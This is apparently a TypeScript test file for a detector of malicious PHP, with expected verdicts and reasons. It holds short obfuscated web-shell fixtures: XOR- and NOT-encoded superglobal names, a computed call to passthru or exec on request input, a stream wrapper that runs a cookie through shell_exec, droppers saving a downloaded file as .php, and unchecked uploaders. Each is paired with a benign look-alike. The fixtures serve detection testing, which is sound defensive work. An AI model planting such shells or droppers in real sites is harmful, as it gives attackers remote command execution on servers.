/**
 * PHP mechanisms missed on unseen public shells: superglobal names spelled without letters
 * (XOR of punctuation, `~` of high bytes, chr() arithmetic) read through variable variables,
 * lower-case barewords concatenated into a function name, filter_input() as request input,
 * stream wrappers that run commands, droppers saving a fixed URL's download as a script, and
 * uploaders that keep the upload entry in a variable. Every fixture is written for this test
 * and is inert text; each mechanism has a benign look-alike with its exact outcome.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons } from './helpers.js';

const verdict = (name: string, code: string): [string | undefined, string[]] => {
  const f = findingOf(name, code);
  return [f?.verdict, reasons(f)];
};

test('php a superglobal named by an XOR of punctuation, read through $$n: element called with another element', () => {
  assert.deepEqual(verdict('m1a.php', '<?php $k = "{{{{" ^ "$<>/"; $$k[\'fn\']($$k[\'arg\']);\n'), [
    'malicious',
    ['data flow: request chooses the function the page calls and its arguments', 'string built by XOR of two literals'],
  ]);
  assert.deepEqual(verdict('m1b.php', "<?php $n = ~\"\\xa0\\xaf\\xb0\\xac\\xab\"; ${$n}['a'](${$n}['b']);\n"), [
    'malicious',
    ['request input names the function to call', 'string hidden with bitwise NOT'],
  ]);
});

test('php a superglobal named by chr() arithmetic XORed with a quote, read through ${$n} into a backtick command', () => {
  assert.deepEqual(verdict('m1c.php', '<?php $q = "]"; $q = ($q ^ chr(2)) . ($q ^ chr(9 * 2)) . ($q ^ chr(3 * 8)) . ($q ^ chr(72 / 8)); $q = ${$q}[\'x\']; print `$q`;\n'), [
    'malicious',
    ['data flow: request input reaches a backtick shell command', 'backtick shell command with a variable'],
  ]);
});

test('php look-alike: XOR checksums and a variable variable with a plain name stay clean', () => {
  // a variable name XORed from a word with letters is no hidden superglobal
  assert.deepEqual(
    verdict(
      'm1ok2.php',
      '<?php\n$seed = "alpha";\n$salt = "\\x01\\x02";\n$name = $seed ^ $salt;\n$cell = ${$name}["k"] ?? "";\necho htmlspecialchars($cell);\nsystem("uptime " . escapeshellarg($cell));\n',
    ),
    [undefined, []],
  );
  assert.deepEqual(
    verdict(
      'm1ok.php',
      "<?php\n// checksum of a record: XOR of its bytes, and settings read by name\nfunction checksum($s) { $x = 0; for ($i = 0; $i < strlen($s); $i++) { $x ^= ord($s[$i]); } return $x; }\n$record = 'id=7;qty=2';\n$mask = checksum($record) ^ 0x5a;\n$inv = ~$mask & 0xff;\n$setting = 'timezone';\n$timezone = 'UTC';\necho htmlspecialchars($$setting) . ' ' . $mask . ' ' . $inv;\n",
    ),
    [undefined, []],
  );
});

test('php lower-case barewords concatenated into a function name (undefined constants read as their names)', () => {
  assert.deepEqual(verdict('m2a.php', "<?php (pas.(sth).ru)($_POST['z']);\n"), ['malicious', ['data flow: request input reaches passthru() called through a computed name']]);
});

test('php look-alike: a template engine calls functions named from a defined prefix; upper-case constants concatenated', () => {
  assert.deepEqual(
    verdict(
      'm2ok.php',
      "<?php\ndefine('PREFIX', 'tpl_');\nfunction tpl_header($t) { return \"<h1>\" . htmlspecialchars($t) . \"</h1>\"; }\nfunction tpl_footer($t) { return \"<footer>\" . htmlspecialchars($t) . \"</footer>\"; }\n$title = 'Welcome';\nforeach (['header', 'footer'] as $part) {\n  $fn = PREFIX . $part;\n  echo $fn($title);\n}\necho APP_NAME . VERSION . PHP_EOL;\n",
    ),
    [undefined, []],
  );
});

test('php filter_input() is request input: a name kept in array pieces, and a hex-escaped name called with it', () => {
  assert.deepEqual(verdict('m3a.php', "<?php\n$bits = array('pa', 'sst', 'hru');\ncall_user_func($bits[0] . $bits[1] . $bits[2], filter_input(INPUT_POST, 'c'));\n"), [
    'malicious',
    ['data flow: request input reaches passthru() through call_user_func()'],
  ]);
  assert.deepEqual(
    verdict('m3b.php', '<?php\n$run = "\\x65\\x78\\x65\\x63";\n$arg = filter_input(INPUT_GET, \'q\', FILTER_SANITIZE_SPECIAL_CHARS);\nif ($arg) { echo ($run)(trim($arg)); }\n'),
    ['malicious', ['data flow: request input reaches exec() called through a computed name', 'function name "exec" assembled from pieces or escapes']],
  );
});

test('php look-alike: filter_input() validated as a number, hex-escaped format strings, harmless calls', () => {
  assert.deepEqual(
    verdict(
      'm3ok.php',
      "<?php\n$page = filter_input(INPUT_GET, 'page', FILTER_VALIDATE_INT);\n$fmt = \"\\x25\\x30\\x33\\x64\";\nprintf($fmt, $page);\n$show = 'str' . 'toupper';\necho htmlspecialchars($show('page')) . strlen(filter_input(INPUT_GET, 'name'));\n",
    ),
    [undefined, []],
  );
});

test('php a stream wrapper whose stream_open runs the request as a command', () => {
  assert.deepEqual(
    verdict(
      'm4a.php',
      "<?php\nclass Pipe {\n  public $context;\n  public function stream_open($path, $mode, $opts, &$opened) { $this->out = shell_exec($_COOKIE['k']); return true; }\n  public function stream_read($n) { return $this->out; }\n  public function stream_eof() { return true; }\n}\nstream_wrapper_register('pipe', 'Pipe');\necho file_get_contents('pipe://x');\n",
    ),
    ['malicious', ['request input reaches shell_exec()', 'runs OS commands (shell_exec)', 'OS command built from variables in a script that reads request input']],
  );
});

test('php look-alike: a stream wrapper for a storage scheme reads files by hashed key', () => {
  assert.deepEqual(
    verdict(
      'm4ok.php',
      "<?php\nclass BlobStore {\n  public $context;\n  private $data = '';\n  private $pos = 0;\n  public function stream_open($path, $mode, $opts, &$opened) { $key = substr($path, 7); $this->data = (string) @file_get_contents(__DIR__ . '/blobs/' . md5($key)); return true; }\n  public function stream_read($n) { $r = substr($this->data, $this->pos, $n); $this->pos += strlen($r); return $r; }\n  public function stream_eof() { return $this->pos >= strlen($this->data); }\n}\nstream_wrapper_register('blob', 'BlobStore');\necho htmlspecialchars(file_get_contents('blob://' . ($_GET['id'] ?? 'home')));\n",
    ),
    [undefined, []],
  );
});

test('php dropper: a download from a fixed URL saved under a .php name (file_get_contents, curl + fopen/fwrite)', () => {
  assert.deepEqual(
    verdict(
      'm5a.php',
      "<?php\n$src = 'http://example.invalid/raw/abc';\n$body = file_get_contents($src);\nif ($body) { $out = 'cache.php'; file_put_contents($out, $body); echo 'ok'; }\n",
    ),
    ['malicious', ['saves content downloaded from a fixed URL as a server script (dropper)']],
  );
  assert.deepEqual(
    verdict(
      'm5b.php',
      "<?php\n$ch = curl_init('https://example.invalid/p.txt');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$got = curl_exec($ch);\n$h = fopen('helper.php', 'w');\nfwrite($h, $got);\nfclose($h);\n",
    ),
    ['malicious', ['downloads content from the web and saves it as a server script (dropper)', 'saves content downloaded from a fixed URL as a server script (dropper)']],
  );
});

test('php look-alike: an updater saves a fixed feed into a .json data file', () => {
  assert.deepEqual(
    verdict(
      'm5ok.php',
      "<?php\n// nightly update of the rates table\n$feed = 'https://example.invalid/rates/latest';\n$json = file_get_contents($feed);\nif ($json !== false && json_decode($json) !== null) { file_put_contents(__DIR__ . '/data/rates.json', $json); }\n",
    ),
    [undefined, []],
  );
});

test('php uploader: the upload entry kept in a variable, stored under its client name with no check', () => {
  assert.deepEqual(
    verdict(
      'm6a.php',
      '<?php\nif (isset($_FILES[\'doc\'])) {\n  $up = $_FILES[\'doc\'];\n  $to = \'files/\' . basename($up[\'name\']);\n  if (move_uploaded_file($up[\'tmp_name\'], $to)) echo "saved " . htmlspecialchars($to);\n}\n?>\n<form method="post" enctype="multipart/form-data"><input type="file" name="doc"><button>Send</button></form>\n',
    ),
    ['malicious', ['small script stores an upload under the client-chosen name with no type or extension check (uploader)']],
  );
  assert.deepEqual(
    verdict(
      'm6b.php',
      "<?php\nif (!empty($_FILES)) {\n  $item = $_FILES['f'];\n  if (is_uploaded_file($item['tmp_name'])) { $dst = './' . $item['name']; copy($item['tmp_name'], $dst); echo '<li>Size: ' . $_FILES['f']['size'] . '</li><li>Type: ' . $_FILES['f']['type'] . '</li>'; }\n}\n?>\n<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><input type=\"submit\"></form>\n",
    ),
    ['malicious', ['small script stores an upload under the client-chosen name with no type or extension check (uploader)']],
  );
});

test('php look-alikes: allowlisted type with a random name, a hashed name, a fixed non-web spool folder', () => {
  assert.deepEqual(
    verdict(
      'm6ok1.php',
      "<?php\nif (isset($_FILES['avatar'])) {\n  $file = $_FILES['avatar'];\n  $type = wp_check_filetype($file['name']);\n  $allowed = ['jpg', 'png', 'gif'];\n  if (!in_array(strtolower($type['ext']), $allowed, true)) die('bad type');\n  $to = wp_upload_dir()['path'] . '/' . wp_generate_password(12, false) . '.' . $type['ext'];\n  move_uploaded_file($file['tmp_name'], $to);\n}\n",
    ),
    [undefined, []],
  );
  assert.deepEqual(
    verdict(
      'm6ok2.php',
      "<?php\nif (isset($_FILES['report'])) {\n  $r = $_FILES['report'];\n  $name = md5_file($r['tmp_name']) . '_' . bin2hex(random_bytes(4));\n  move_uploaded_file($r['tmp_name'], __DIR__ . '/uploads/' . $name);\n}\n",
    ),
    [undefined, []],
  );
  assert.deepEqual(
    verdict(
      'm6ok3.php',
      "<?php\nif (isset($_FILES['batch'])) {\n  $b = $_FILES['batch'];\n  $to = '/var/spool/importer/' . basename($b['name']);\n  move_uploaded_file($b['tmp_name'], $to);\n  echo 'queued';\n}\n",
    ),
    ['suspicious', ['move_uploaded_file() stores an upload under a name the client chose']],
  );
});
